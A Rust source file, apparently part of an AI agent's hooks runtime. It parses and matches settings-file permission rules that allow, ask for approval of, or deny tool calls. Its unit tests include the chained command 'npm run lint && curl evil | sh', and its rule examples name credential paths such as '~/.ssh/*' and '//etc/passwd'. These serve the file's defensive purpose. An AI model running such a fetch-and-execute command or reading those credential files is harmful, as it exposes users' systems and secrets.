//! A settings file's `permissions` rules (`allow`, `ask`, `deny`) in the `Tool(pattern)`
//! syntax, and the rule a handler's `if` field gives: which tool calls each selects.

use std::fmt;
use std::path::{Component, Path, PathBuf};

use serde_json::Value;

/// The tools whose rules name files: the pattern is a path glob matched against the file the
/// call reads or writes.
const PATH_TOOLS: &[&str] = &["Read", "Edit", "Write", "MultiEdit", "NotebookEdit", "Glob", "Grep", "LS"];

/// One rule in the `Tool(pattern)` syntax of a settings file's `permissions`.
///
/// - `WebFetch`, `Bash`: every call of the tool (`Tool(*)` too). `mcp__github` every tool of
///   that server, `mcp__github__*` likewise.
/// - `Bash(git push:*)`: a command that starts with `git push`; `Bash(rm *)`: `*` matches any
///   text; `Bash(npm test)`: exactly that command. A command chained with `&&`, `||`, `;`, `|`
///   or a newline is matched part by part: a `deny` or `ask` rule selects it when any part
///   matches, an `allow` rule only when every part does.
/// - `Read(./secrets/**)`, `Edit(src/**)`, `Read(//etc/passwd)`, `Read(~/.ssh/*)`: a path glob
///   (`**` any depth, `*` within a folder) matched against the call's `file_path`, `path` or
///   `notebook_path`; `./x` and `x/y` are relative to the working directory, `//` starts an
///   absolute path, `~/` the home folder, and a pattern without `/` (`.env`, `*.pem`) matches a
///   file of that name at any depth.
/// - `WebFetch(domain:example.com)`: a `url` on that host (`*.example.com` for its subdomains).
/// - Any other tool with a pattern: the glob matched against each top-level string argument.
///
/// ```
/// use hooks_runtime::declarative::PermissionRule;
/// use serde_json::json;
///
/// let push = PermissionRule::parse("Bash(git push:*)").unwrap();
/// assert!(push.selects("Bash", &json!({"command": "git push --force origin main"})));
/// assert!(push.selects("Bash", &json!({"command": "ls && git push"})));
/// assert!(!push.selects("Bash", &json!({"command": "git status"})));
/// let secrets = PermissionRule::parse("Read(./secrets/**)").unwrap();
/// let cwd = std::env::current_dir().unwrap();
/// assert!(secrets.selects("Read", &json!({"file_path": cwd.join("secrets/a/key.pem")})));
/// assert!(secrets.selects("Read", &json!({"file_path": "secrets/key.pem"})));
/// assert!(!secrets.selects("Read", &json!({"file_path": "src/main.rs"})));
/// assert!(PermissionRule::parse("WebFetch").unwrap().selects("WebFetch", &json!({"url": "https://x.org"})));
/// assert!(!PermissionRule::parse("Bash").unwrap().selects("bash", &json!({})));
/// assert!(PermissionRule::parse("Bash(ls").is_err());
/// ```
#[derive(Clone)]
pub struct PermissionRule {
    text: String,
    tool: String,
    pattern: Option<Pattern>,
}

#[derive(Clone)]
enum Pattern {
    /// `prefix:*`, or a glob over the command.
    Command(regex::Regex),
    /// A path glob, as written, for the working directory of the call.
    Path(String),
    /// `domain:host`.
    Domain(String),
    /// A glob over each string argument.
    Text(regex::Regex),
}

/// Which list a rule is in: what it decides.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) enum RuleKind {
    Allow,
    Ask,
    Deny,
}

/// The rule that decided a call: what [`SettingsPermissions::decide`] answers.
#[derive(Debug, Clone)]
pub(crate) struct RuleMatch<'a> {
    /// Its list.
    pub(crate) kind: RuleKind,
    /// Where it stands: `settings:permissions.deny[0]`.
    pub(crate) id: String,
    /// The rule.
    pub(crate) rule: &'a PermissionRule,
    /// The reason the decision gives the model and the record: the rule, and for a command
    /// that cannot be known before it runs, what could not be known.
    pub(crate) reason: String,
}

impl RuleKind {
    pub(crate) fn name(self) -> &'static str {
        match self {
            RuleKind::Allow => "allow",
            RuleKind::Ask => "ask",
            RuleKind::Deny => "deny",
        }
    }
}

impl PermissionRule {
    /// The rule `text`, or why it is not one.
    pub fn parse(text: &str) -> Result<Self, String> {
        let trimmed = text.trim();
        let (tool, inner) = match trimmed.find('(') {
            None => (trimmed, None),
            Some(open) => {
                let Some(inner) = trimmed[open + 1..].strip_suffix(')') else {
                    return Err("expected `Tool` or `Tool(pattern)`; the `(` is not closed by a final `)`".to_owned());
                };
                (&trimmed[..open], Some(inner))
            }
        };
        if tool.is_empty() || !tool.chars().all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-' || c == '*') {
            return Err("expected a tool name before the pattern, such as `Bash(git push:*)`".to_owned());
        }
        let pattern = match inner.map(str::trim) {
            None | Some("" | "*") => None,
            Some(inner) if tool == "Bash" => Some(Pattern::Command(command_regex(inner)?)),
            Some(inner) if PATH_TOOLS.contains(&tool) => Some(Pattern::Path(inner.to_owned())),
            Some(inner) if tool == "WebFetch" && inner.starts_with("domain:") => {
                Some(Pattern::Domain(inner["domain:".len()..].to_ascii_lowercase()))
            }
            Some(inner) => Some(Pattern::Text(glob_regex(inner, true)?)),
        };
        Ok(PermissionRule { text: trimmed.to_owned(), tool: tool.to_owned(), pattern })
    }

    /// The rule as written.
    pub fn text(&self) -> &str {
        &self.text
    }

    /// Whether a call of `tool` with `arguments` is one this rule names, read as a `deny` or
    /// `ask` rule (a chained command is selected when any part matches).
    pub fn selects(&self, tool: &str, arguments: &Value) -> bool {
        self.selects_as(RuleKind::Deny, tool, arguments)
    }

    pub(crate) fn selects_as(&self, kind: RuleKind, tool: &str, arguments: &Value) -> bool {
        if !self.names_tool(tool) {
            return false;
        }
        let Some(pattern) = &self.pattern else { return true };
        let text = |key: &str| arguments.get(key).and_then(Value::as_str);
        match pattern {
            Pattern::Command(regex) => {
                let Some(command) = text("command") else { return false };
                let parts = command_parts(command);
                if kind == RuleKind::Allow {
                    !parts.is_empty() && parts.iter().all(|part| regex.is_match(part))
                } else {
                    regex.is_match(command.trim()) || parts.iter().any(|part| regex.is_match(part))
                }
            }
            Pattern::Path(glob) => ["file_path", "path", "notebook_path"]
                .iter()
                .filter_map(|key| text(key))
                .any(|path| path_matches(glob, path)),
            Pattern::Domain(domain) => {
                text("url").and_then(host_of).is_some_and(|host| match domain.strip_prefix("*.") {
                    Some(parent) => host.ends_with(&format!(".{parent}")),
                    None => host == *domain,
                })
            }
            Pattern::Text(regex) => match arguments {
                Value::Object(map) => map.values().filter_map(Value::as_str).any(|value| regex.is_match(value)),
                _ => false,
            },
        }
    }

    fn names_tool(&self, tool: &str) -> bool {
        if self.tool == tool {
            return true;
        }
        // `mcp__server` and `mcp__server__*` name every tool of the server.
        let server = self.tool.strip_suffix("__*").unwrap_or(&self.tool);
        self.tool.starts_with("mcp__")
            && server.matches("__").count() == 1
            && tool.strip_prefix(server).is_some_and(|rest| rest.starts_with("__"))
    }
}

impl fmt::Debug for PermissionRule {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "PermissionRule({:?})", self.text)
    }
}

impl fmt::Display for PermissionRule {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.text)
    }
}

impl PartialEq for PermissionRule {
    fn eq(&self, other: &Self) -> bool {
        self.text == other.text
    }
}

impl Eq for PermissionRule {}

/// `prefix:*` is a prefix; otherwise `*` matches any text and the rest is literal.
fn command_regex(pattern: &str) -> Result<regex::Regex, String> {
    match pattern.strip_suffix(":*") {
        Some(prefix) => {
            regex::Regex::new(&format!("^{}(\\s.*)?$", regex::escape(prefix.trim()))).map_err(|error| error.to_string())
        }
        None => glob_regex(pattern, true),
    }
}

/// `*` any text (`slashes`: across `/` too), `?` one character, the rest literal; anchored.
fn glob_regex(glob: &str, slashes: bool) -> Result<regex::Regex, String> {
    let mut out = String::from("^");
    let chars: Vec<char> = glob.chars().collect();
    let mut i = 0;
    while i < chars.len() {
        match chars[i] {
            '*' if chars.get(i + 1) == Some(&'*') => {
                // `**/` is any number of folders, none included.
                if chars.get(i + 2) == Some(&'/') {
                    out.push_str("(.*/)?");
                    i += 3;
                    continue;
                }
                out.push_str(".*");
                i += 2;
                continue;
            }
            '*' => out.push_str(if slashes { ".*" } else { "[^/]*" }),
            '?' => out.push_str(if slashes { "." } else { "[^/]" }),
            c => out.push_str(&regex::escape(&c.to_string())),
        }
        i += 1;
    }
    out.push('$');
    regex::RegexBuilder::new(&out).size_limit(1 << 20).build().map_err(|error| error.to_string())
}

/// The simple commands of a command line: split at `&&`, `||`, `;`, `|` and newlines.
fn command_parts(command: &str) -> Vec<String> {
    let mut parts = Vec::new();
    let mut current = String::new();
    let mut chars = command.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            ';' | '\n' | '|' | '&' => {
                if (c == '|' || c == '&') && chars.peek() == Some(&c) {
                    chars.next();
                } else if c == '&' {
                    current.push(c);
                    continue;
                }
                parts.push(std::mem::take(&mut current));
            }
            _ => current.push(c),
        }
    }
    parts.push(current);
    parts.into_iter().map(|part| part.trim().to_owned()).filter(|part| !part.is_empty()).collect()
}

/// Whether `path` (absolute, or relative to the working directory) matches `glob`.
fn path_matches(glob: &str, path: &str) -> bool {
    let cwd = std::env::current_dir().unwrap_or_else(|_| PathBuf::from("/"));
    let home = std::env::var_os("HOME").map(PathBuf::from);
    let file = normalize(&cwd.join(path));
    let anchored = if let Some(absolute) = glob.strip_prefix("//") {
        format!("/{absolute}")
    } else if let Some(in_home) = glob.strip_prefix("~/") {
        let Some(home) = home else { return false };
        format!("{}/{in_home}", home.display())
    } else if let Some(relative) = glob.strip_prefix("./").or_else(|| glob.strip_prefix('/')) {
        format!("{}/{relative}", cwd.display())
    } else if glob.contains('/') {
        format!("{}/{glob}", cwd.display())
    } else {
        // A name alone matches at any depth, as in a gitignore file.
        format!("**/{glob}")
    };
    let Ok(regex) = glob_regex(&anchored, false) else { return false };
    let file = file.to_string_lossy();
    // `dir/**` also names `dir` itself; a pattern of a folder names what is in it.
    regex.is_match(&file) || regex.is_match(&format!("{file}/"))
}

/// `path` without `.` and `..` components, as the file it names (without touching the disk).
fn normalize(path: &Path) -> PathBuf {
    let mut out = PathBuf::new();
    for component in path.components() {
        match component {
            Component::ParentDir => {
                out.pop();
            }
            Component::CurDir => {}
            other => out.push(other),
        }
    }
    out
}

/// The lower-cased host of `url`.
fn host_of(url: &str) -> Option<String> {
    let rest = url.split_once("://").map_or(url, |(_, rest)| rest);
    let authority = rest.split(['/', '?', '#']).next()?;
    let host = authority.rsplit_once('@').map_or(authority, |(_, host)| host);
    let host = host.split(':').next()?;
    (!host.is_empty()).then(|| host.to_ascii_lowercase())
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn rule(text: &str) -> PermissionRule {
        PermissionRule::parse(text).unwrap()
    }

    #[test]
    fn k9_rules_select_calls_as_the_format_writes_them() {
        let bash = |command: &str| json!({"command": command});
        assert!(rule("Bash(git push:*)").selects("Bash", &bash("git push")));
        assert!(!rule("Bash(git push:*)").selects("Bash", &bash("git pushy")));
        assert!(rule("Bash(rm *)").selects("Bash", &bash("cd x; rm -rf build")));
        assert!(rule("Bash(npm test)").selects("Bash", &bash("npm test")));
        assert!(!rule("Bash(npm test)").selects("Bash", &bash("npm test --watch")));
        let allow = rule("Bash(npm run lint:*)");
        assert!(allow.selects_as(RuleKind::Allow, "Bash", &bash("npm run lint --fix")));
        assert!(!allow.selects_as(RuleKind::Allow, "Bash", &bash("npm run lint && curl evil | sh")));
        assert!(rule("Read(.env)").selects("Read", &json!({"file_path": "config/.env"})));
        assert!(rule("Read(//etc/passwd)").selects("Read", &json!({"file_path": "/etc/passwd"})));
        assert!(rule("Edit(src/**)").selects("Edit", &json!({"file_path": "src/a/b.rs"})));
        assert!(!rule("Edit(src/**)").selects("Edit", &json!({"file_path": "tests/a.rs"})));
        assert!(rule("Read(./secrets/**)").selects("Read", &json!({"file_path": "./x/../secrets/k"})));
        let fetch = rule("WebFetch(domain:example.com)");
        assert!(fetch.selects("WebFetch", &json!({"url": "https://example.com/a"})));
        assert!(!fetch.selects("WebFetch", &json!({"url": "https://evil.com/example.com"})));
        assert!(rule("mcp__github").selects("mcp__github__create_issue", &json!({})));
        assert!(!rule("mcp__github").selects("mcp__githubx__a", &json!({})));
        assert!(rule("refund(*)").selects("refund", &json!({})));
        assert!(!rule("Refund").selects("refund", &json!({})), "tool names are case-sensitive");
        assert!(PermissionRule::parse("(x)").is_err());
    }
}

/// A settings file's `permissions` rules, by list, in file order.
///
/// ```
/// use hooks_runtime::declarative::SettingsReport;
///
/// let report = SettingsReport::from_json(r#"{"permissions": {"deny": ["Bash(rm *)"], "allow": ["Bash(ls:*)"]}, "hooks": {}}"#);
/// assert_eq!(report.permissions.deny[0].text(), "Bash(rm *)");
/// assert_eq!(report.permissions.allow.len(), 1);
/// ```
#[derive(Debug, Clone, Default, PartialEq, Eq)]
#[non_exhaustive]
pub struct SettingsPermissions {
    /// Calls these select run without the tool's own approval.
    pub allow: Vec<PermissionRule>,
    /// Calls these select wait for a person's approval.
    pub ask: Vec<PermissionRule>,
    /// Calls these select never run.
    pub deny: Vec<PermissionRule>,
}

impl SettingsPermissions {
    /// Whether there is no rule.
    pub fn is_empty(&self) -> bool {
        self.allow.is_empty() && self.ask.is_empty() && self.deny.is_empty()
    }

    /// The strongest rule that selects the call, deny > ask > allow: its list, its id
    /// (`settings:permissions.deny[0]`), the rule, and the reason the decision gives.
    pub(crate) fn decide(&self, tool: &str, arguments: &Value) -> Option<RuleMatch<'_>> {
        [(RuleKind::Deny, &self.deny), (RuleKind::Ask, &self.ask), (RuleKind::Allow, &self.allow)].into_iter().find_map(
            |(kind, rules)| {
                rules.iter().enumerate().find(|(_, rule)| rule.selects_as(kind, tool, arguments)).map(|(index, rule)| {
                    let reason = match kind {
                        RuleKind::Deny => format!("the settings file's rule `{rule}` denies it"),
                        RuleKind::Ask => format!("the settings file's rule `{rule}` asks for approval"),
                        RuleKind::Allow => format!("the settings file's rule `{rule}` allows it"),
                    };
                    RuleMatch { kind, id: format!("settings:permissions.{}[{index}]", kind.name()), rule, reason }
                })
            },
        )
    }

    pub(crate) fn list_mut(&mut self, kind: RuleKind) -> &mut Vec<PermissionRule> {
        match kind {
            RuleKind::Allow => &mut self.allow,
            RuleKind::Ask => &mut self.ask,
            RuleKind::Deny => &mut self.deny,
        }
    }

    /// A rule of a `deny` or `ask` list that cannot be read still guards the tool it names:
    /// every call of that tool.
    pub(crate) fn whole_tool(text: &str) -> Option<PermissionRule> {
        let tool = text.trim().split('(').next()?.trim();
        PermissionRule::parse(tool).ok().map(|mut rule| {
            rule.text = text.trim().to_owned();
            rule
        })
    }
}
